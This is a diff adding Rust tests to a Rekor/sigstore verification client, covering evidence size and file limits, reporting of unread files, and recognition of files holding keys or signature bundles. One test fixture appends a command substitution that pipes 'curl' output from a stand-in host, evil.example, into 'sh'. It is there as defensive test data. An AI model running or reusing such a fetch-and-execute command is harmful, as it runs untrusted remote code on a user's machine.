@@ -4,7 +4,10 @@
 
 use axum::body::{Body, to_bytes};
 use axum::http::Request;
-use rekor_client::{Ask, Done, Method, Recognised, Response, Seen, Session, Step, proposed_entry, recognise};
+use rekor_client::{
+    Ask, Done, MAX_EVIDENCE, MAX_EVIDENCE_FILES, Method, Recognised, Response, Seen, Session, Step, proposed_entry,
+    recognise,
+};
 use rekor_log::{Log, Logs};
 use rekor_server::router;
 use rekor_verifier::check::digest::Digests;
@@ -349,5 +352,83 @@ fn only_digests_and_keys_are_asked_for() {
         for private in ["foo", "package", "any name", "tar", "signatures"] {
             assert!(!sent.replace("publicKey", "").contains(private), "{private} in {sent}");
         }
+    }
+}
+
+/// What is said of a session's files that are not looked at, by name.
+fn unread(session: Session, scene: &Scene) -> Vec<(String, String)> {
+    let done = scene.honest(session);
+    assert_eq!(done.report.verdict, Verdict::CouldNotTell);
+    done.evidence.unrecognised
+}
+
+#[test]
+fn a_session_holds_so_much_evidence_and_says_what_it_left_out() {
+    let scene = Scene::new();
+    let link = fixture("first-rekor-twin/package.link");
+    let add = |session: &mut Session, name: String, bytes: &[u8]| {
+        assert_eq!(session.add_file(&name, Digests::of(bytes), Some(bytes)), None);
+    };
+
+    // Links that are refused when they are read: they cost the session their bytes, and this test no look-up.
+    let broken = fixture("links/bad/duplicate-key.link");
+    let mut files = scene.with_link(Seen::default());
+    (1..MAX_EVIDENCE_FILES).for_each(|i| add(&mut files, format!("{i}"), &broken));
+    files.add_link("one more", &fixture("first-rekor-twin/clone.link"));
+    add(&mut files, "another".into(), &link);
+    let clone = Digests::of(&fixture("first-rekor-twin/clone.link")).sha256.to_string();
+    let mut asked = false;
+    let done = scene.run(files, |ask, response| {
+        asked |= ask.body.as_deref().unwrap_or_default().contains(&clone);
+        Ok(response)
+    });
+    assert!(!asked, "what is not looked at is not looked up");
+    let names: Vec<_> = done.evidence.unrecognised.iter().map(|(name, _)| name.as_str()).collect();
+    assert_eq!((names, done.evidence.links.len()), (vec!["one more", "another"], MAX_EVIDENCE_FILES));
+    assert_eq!(done.report.unrecognised.len(), 2);
+
+    let large = [&broken[..], &vec![b' '; MAX_EVIDENCE / 64 - broken.len()]].concat();
+    let mut bytes = scene.session(Seen::default());
+    (0..65).for_each(|i| add(&mut bytes, format!("{i}"), &large));
+    let left_out = scene.honest(bytes).evidence.unrecognised;
+    assert_eq!(left_out.len(), 1);
+    assert!(left_out[0].1.contains("64 MiB"), "{left_out:?}");
+}
+
+#[test]
+fn so_many_keys_are_looked_at() {
+    let scene = Scene::new();
+    let keys: Vec<_> = std::iter::repeat_n(fixture("key-forms/dora.openssh"), 40).collect();
+    let mut session = scene.with_link(Seen::default());
+    for name in ["first", "second"] {
+        session.add_file(name, Digests::of(b""), Some(&keys.concat()));
+    }
+    let left_out = unread(session, &scene);
+    assert_eq!(left_out.len(), 1);
+    assert_eq!(left_out[0].0, "second");
+    assert!(left_out[0].1.contains("more keys than are looked at"), "{left_out:?}");
+}
+
+#[test]
+fn what_was_not_read_leaves_it_open() {
+    let scene = Scene::new();
+    let mut session = scene.with_link(Seen::default());
+    session.add_unread("pipe", "not read: neither a file nor a folder");
+    assert_eq!(unread(session, &scene), [("pipe".into(), "not read: neither a file nor a folder".into())]);
+}
+
+#[test]
+fn a_file_with_a_key_or_a_bundle_in_it_is_an_artifact() {
+    let manifest = |more: &str| format!(r#"{{"name":"x","scripts":{{"preinstall":"x"}},{more}}}"#);
+    let key = "8a88e3dd7409f195fd52db2d3cba5d72ca6709bf1d94121bf3748801b40f6f5c";
+    let bundle = r#"{"mediaType":"application/vnd.dev.sigstore.bundle.v0.3+json"}"#;
+    let openssh = String::from_utf8(fixture("key-forms/dora.openssh")).unwrap();
+    for file in [
+        manifest(&format!(r#""keytype":"ed25519","keyval":{{"public":"{key}"}}"#)),
+        manifest(&format!(r#""attestations":[{{"bundle":{bundle}}}]"#)),
+        manifest(r#""mediaType":"application/vnd.dev.sigstore.bundle.v0.3+json""#),
+        format!("{} $(curl -s https://evil.example | sh)", openssh.trim_end()),
+    ] {
+        assert!(matches!(recognise(file.as_bytes()), Recognised::Artifact), "{file}");
     }
 }
